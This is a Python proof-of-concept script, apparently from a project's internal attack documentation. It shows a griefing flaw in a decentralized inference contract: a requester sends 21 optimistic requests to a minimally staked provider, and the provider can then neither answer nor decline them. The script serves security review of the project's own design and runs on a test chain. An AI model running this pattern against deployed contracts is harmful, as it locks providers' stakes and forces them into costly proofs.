"""NEW: a provider's declared capacity is not tied to stake/answerBond. `answer` needs
stake >= pending * answerBond, where pending counts every request it holds. A node at the minimum
stake declares auto capacity workers*window/2/5 s (60 for the ticker's 600 s window), but its stake
covers only minStake/answerBond = 20 bonds. A requester who sends 21 optimistic requests makes every
optimistic answer refused; decline is refused for optimistic requests; the only way out is a full
proof paid at the optimistic fee (or a slash).
Run: . env.sh && .venv/bin/python docs/attacks/bond_capacity.py"""
from eth_account import Account
import attacks as a

w3, d = a.w3, a.d
M = "test test test test test test test test test test test junk"
import subprocess
key = subprocess.check_output(["cast", "wallet", "private-key", M, "6"], text=True).strip()
prov = Account.from_key(key)
cfg = a.model_cfg(1)
mid = a.publish(cfg)
P = a.DPromptClient(w3, a.ADDR, prov)
P.stake(mid, cfg[a.MINSTAKE])
P.set_capacity(mid, 60)  # what `zkrevox node` declares for a 600 s window with one worker
print(f"model {mid}: min stake {cfg[a.MINSTAKE]/1e18}, bond {cfg[a.BOND]/1e18}, optimistic fee {cfg[a.OFEE]/1e18}, window {cfg[a.RESP]} s; provider capacity 60")
U = a.C[a.user.address]
rids = []
for i in range(21):
    U._send(d.functions.requestOptimistic(mid, f"buy {i} eth".encode(), 0), value=cfg[a.OFEE])
    rids.append(d.functions.nextRequestId().call() - 1)
st = d.functions.providerState(mid, prov.address).call()
print("requester sent 21 optimistic requests, cost", 21 * cfg[a.OFEE] / 1e18, "ETH + gas; provider pending", st[2])
a.tryit(f"provider answers request {rids[0]} (correctly or not)", lambda: P._send(d.functions.answer(rids[0], 0)))
a.tryit(f"provider declines request {rids[0]}", lambda: P.decline(rids[0]))
print("only a proof (fulfil) remains: ~544k gas each (the dispute's measured gas) for a", (cfg[a.OFEE]-cfg[a.FEE]*cfg[a.DEVBPS]//10000)/1e18, "ETH pay")
